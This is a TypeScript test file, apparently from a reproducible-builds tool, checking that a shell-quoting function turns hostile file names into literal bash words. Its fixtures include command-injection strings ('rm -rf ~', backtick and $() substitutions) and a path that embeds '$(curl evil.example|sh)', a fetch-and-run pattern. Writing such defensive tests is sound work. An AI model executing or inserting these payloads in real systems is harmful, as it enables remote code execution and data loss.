// The command a page offers is pasted into a shell: a real bash must read back exactly the words
// meant, whatever a worker named its output file.
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import type { Sha256Hex } from '../../services/digest.ts';
import type { BuildFacts } from './read-model.ts';
import { shellQuote, verifyCommands } from './verify-command.ts';

/** The words bash reads from `commandLine` when `rbnet` is a function that prints its arguments. */
function wordsBashReads(commandLine: string): string[] {
  const out = execFileSync('bash', ['-c', `rbnet() { printf '%s\\0' "$@"; }; ${commandLine}`], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
  });
  return out.split('\0').slice(0, -1);
}

const HOSTILE = [
  '$(touch /tmp/rbnet-pwned)',
  '`id`',
  "it's; rm -rf ~",
  'a b\tc',
  '"double" $HOME',
  '\u202Egpj.exe',
  '*.deb',
  '--policy=evil.json',
  '',
];

describe('shellQuote', () => {
  it('leaves safe words as they are', () => {
    expect(shellQuote('./hello_2.10-3_amd64.deb')).toBe('./hello_2.10-3_amd64.deb');
    expect(shellQuote('hello=1:2.0-1+b1')).toBe('hello=1:2.0-1+b1');
  });

  it('makes every hostile word one literal word for bash: nothing expands, nothing runs', () => {
    const line = `rbnet ${HOSTILE.map(shellQuote).join(' ')}`;
    expect(wordsBashReads(line)).toEqual(HOSTILE);
  });
});

function facts(over: Partial<BuildFacts>): BuildFacts {
  return {
    buildId: '6f1c2e5a-0000-4000-8000-000000000001',
    name: 'hello',
    version: '2.10-3',
    backend: 'debian',
    architecture: 'amd64',
    manifestSha256: 'a'.repeat(64) as Sha256Hex,
    verdict: 'reproducible',
    createdAt: '2026-11-25T12:00:00.000Z',
    agreeing: ['alpha', 'beta'],
    dissenting: [],
    threshold: 2,
    submittedBy: 'maint',
    claimedOutputs: [],
    debianSource: 'archive',
    attempts: [],
    history: [],
    hasAttestation: true,
    conflicts: [],
    coordinatorUrl: 'https://rbnet.example.org/',
    decision: {
      explanation: '',
      countedOperators: ['alpha', 'beta'],
      agreeingOperators: ['alpha', 'beta'],
      agreeingOutputs: [{ path: 'debs/hello_2.10-3_amd64.deb', sha256: 'b'.repeat(64) as Sha256Hex }],
      dissent: [],
      notCounted: [],
    },
    ...over,
  };
}

describe('verifyCommands', () => {
  it('pins a Debian build from the archive by source name and version, and every build by its manifest', () => {
    const commands = verifyCommands(facts({})).map((c) => wordsBashReads(c.command));
    expect(commands).toEqual([
      [
        'verify',
        './hello_2.10-3_amd64.deb',
        '--policy',
        'policy.json',
        '--debian-source',
        'hello=2.10-3',
        '--coordinator',
        'https://rbnet.example.org',
      ],
      [
        'verify',
        './hello_2.10-3_amd64.deb',
        '--policy',
        'policy.json',
        '--manifest-sha256',
        'a'.repeat(64),
        '--coordinator',
        'https://rbnet.example.org',
      ],
    ]);
  });

  it('offers no source pin for uploaded sources (they never satisfy it), only the manifest', () => {
    const commands = verifyCommands(facts({ debianSource: 'files' }));
    expect(commands).toHaveLength(1);
    expect(commands[0]!.command).toContain('--manifest-sha256');
  });

  it('quotes a hostile output name so the pasted command names exactly that file', () => {
    const path = "out/$(curl evil.example|sh)'`x`.bin";
    const decision = {
      ...facts({}).decision!,
      agreeingOutputs: [{ path, sha256: 'b'.repeat(64) as Sha256Hex }],
    };
    const [first] = verifyCommands(facts({ decision, debianSource: undefined }));
    expect(wordsBashReads(first!.command)[1]).toBe("./$(curl evil.example|sh)'`x`.bin");
  });
});
